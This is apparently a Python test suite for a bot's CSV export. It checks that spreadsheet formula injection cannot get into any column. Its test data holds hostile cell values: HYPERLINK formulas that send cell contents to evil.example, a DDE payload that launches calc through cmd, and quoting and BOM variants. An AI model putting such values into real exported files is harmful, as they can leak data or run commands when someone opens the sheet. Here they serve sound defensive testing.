"""Every table that the bot hands out is safe to open as a spreadsheet."""

import ast
import csv
import io

from bot.moderation import record_export
from tests.hostile.patterns import code
from tests.moderation.test_record_export import SIGNS, entry

HANDED_OUT = {"bot/moderation/record_export.py"}
"""Modules that write tables for people to open. What each cell may hold is held by
`tests.moderation.test_record_export`; a new one needs the same."""

FIGURES = {"bot/scoring/rows.py"}
"""Modules that write tables of numbers alone."""


def test_every_module_that_writes_tables_is_known() -> None:
    found = {file for file, tree in code("riter|to_csv|to_excel").items() if _writes_tables(tree)}
    assert found == HANDED_OUT | FIGURES


def _writes_tables(tree: ast.Module) -> bool:
    """Tell whether a module takes what writes tables from a library, or joins cells by itself."""
    return any(
        (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any("riter" in one.name for one in node.names)
        )
        or (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter", "to_csv", "to_excel"}
            and ast.unparse(node).endswith(("csv.writer", "csv.DictWriter", ".to_csv", ".to_excel"))
        )
        for node in ast.walk(tree)
    )


def test_no_formula_gets_into_any_column() -> None:
    hostile = [f'{sign}HYPERLINK("https://evil.example?"&A1;"x")' for sign in SIGNS] + [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        '"=1+1',
        "'=1+1",
        "\ufeff=1",
        "a\n=1+1",
        "a;=1+1",
    ]
    made = [
        entry(what=text, scorer=text, scorer_version=text, detail={text: text}) for text in hostile
    ]
    read = list(csv.reader(io.StringIO(record_export.csv(made), newline="")))
    assert len(read) == 1 + len(hostile)
    assert {len(row) for row in read} == {len(record_export.COLUMNS)}
    assert not [cell for row in read for cell in row if cell.startswith(SIGNS)]
